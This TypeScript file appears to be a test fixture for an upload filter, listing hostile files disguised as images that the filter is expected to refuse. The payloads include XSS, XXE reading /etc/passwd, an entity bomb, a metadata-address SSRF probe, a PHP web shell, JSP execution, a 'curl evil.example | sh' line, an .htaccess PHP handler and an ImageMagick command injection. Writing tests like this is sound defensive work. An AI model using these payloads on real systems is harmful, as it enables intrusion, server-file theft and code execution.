import { gzipSync } from 'node:zlib'
import { join, latin } from './file-parts.ts'
import { refused, type HostileClass } from './hostile-file.ts'

const script = '<script>alert(document.domain)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`
const text = (sentAs: string, content: string) => refused(sentAs, () => latin(content))

/** Sources that a browser or a server would run, under the names of pictures. */
export const activeTexts: HostileClass = {
  'SVG with a script': text('photo.svg', svg),
  'SVG called PNG': text('photo.png', svg),
  'SVG behind an XML declaration': text('photo.jpg', `<?xml version="1.0"?>\n${svg}`),
  'SVG behind a byte order mark': refused('photo.jpg', () => join('\xef\xbb\xbf  \n', svg)),
  'SVG behind a long comment': text('photo.jpg', `<!-- ${'x'.repeat(4000)} -->${svg}`),
  'SVG in UTF-16': refused('photo.jpg', () => Buffer.from(`\uFEFF${svg}`, 'utf16le')),
  'SVG packed by gzip': refused('photo.svgz', () => gzipSync(svg)),
  'SVG that fetches a file of the server': text(
    'photo.svg',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  ),
  'SVG that grows a billionfold': text(
    'photo.svg',
    `<!DOCTYPE svg [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'bcdefghij'[n]} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}]><svg>&j;</svg>`,
  ),
  'SVG that embeds a page': text('p.svg', '<svg><foreignObject><iframe src="//evil.example"/></foreignObject></svg>'),
  'SVG that asks the inner network': text(
    'p.svg',
    '<svg><image href="http://169.254.169.254/latest/meta-data"/></svg>',
  ),
  'an HTML page': text('photo.jpg', `<!DOCTYPE html><html><body>${script}</body></html>`),
  'an HTML page in capitals': text('photo.jpg', `<HTML><BODY ONLOAD=alert(1)></BODY></HTML>`),
  'an image tag with a handler': text('photo.jpg', '<img src=x onerror=alert(1)> and some more words'),
  'an XML style sheet': text('photo.xsl', `<?xml-stylesheet href="x.xsl"?><xsl:stylesheet>${script}</xsl:stylesheet>`),
  'an XHTML page': text('photo.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  JavaScript: text('photo.js', 'fetch("/api/auth/profile").then((r) => r.text()).then(alert)'),
  PHP: text('photo.php.jpg', '<?php system($_GET["c"]); ?> and some words'),
  'PHP by its short tag': text('photo.phtml', '<?= `id` ?> and some words to be long enough'),
  'a JSP page': text('photo.jsp', '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>'),
  'a shell script': text('photo.sh', '#!/bin/sh\ncurl evil.example | sh\n'),
  'rules for a web server': text('.htaccess', 'AddType application/x-httpd-php .webp\n'),
  'a web manifest': text('manifest.json', '{"start_url":"//evil.example","icons":[]}'),
  'an image macro language': text(
    'photo.mvg',
    'push graphic-context\nfill url(https://x/"|id; echo ")\npop graphic-context',
  ),
  PostScript: text('photo.eps', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\nshowpage'),
  'a data address': text('photo.png', 'data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='),
}
